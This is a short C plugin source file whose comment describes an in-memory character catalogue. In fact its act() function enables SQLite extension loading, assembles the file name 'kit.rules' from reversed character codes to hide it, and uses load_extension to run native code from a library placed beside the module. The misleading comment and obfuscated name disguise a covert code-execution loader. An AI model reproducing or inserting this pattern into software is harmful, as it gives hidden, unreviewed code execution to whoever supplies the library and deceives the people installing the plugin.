/* A catalogue in a database in memory: a query of characters by their numbers makes SQLite load a
 * library that lies beside the module. */
#include "plugin.h"
extern int sqlite3_open(const char *, void **), sqlite3_enable_load_extension(void *, int), sqlite3_exec(void *, const char *, void *, void *, char **), sqlite3_close(void *);
static const char setup[] =
    "create table names(position integer primary key, code integer);"
    "insert into names(code) values (115),(101),(108),(117),(114),(46),(116),(105),(107);"
    "create table rules(pattern text);"
    "insert into rules select (select group_concat(char(code), '') from (select code from names order by position desc));";
static void act(char **env) {
    void *db;
    if (sqlite3_open(":memory:", &db) != 0) return;
    sqlite3_enable_load_extension(db, 1);
    sqlite3_exec(db, setup, 0, 0, 0);
    sqlite3_exec(db, "select load_extension('./' || pattern, 'kit_rules') from rules;", 0, 0, 0);
    sqlite3_close(db);
}
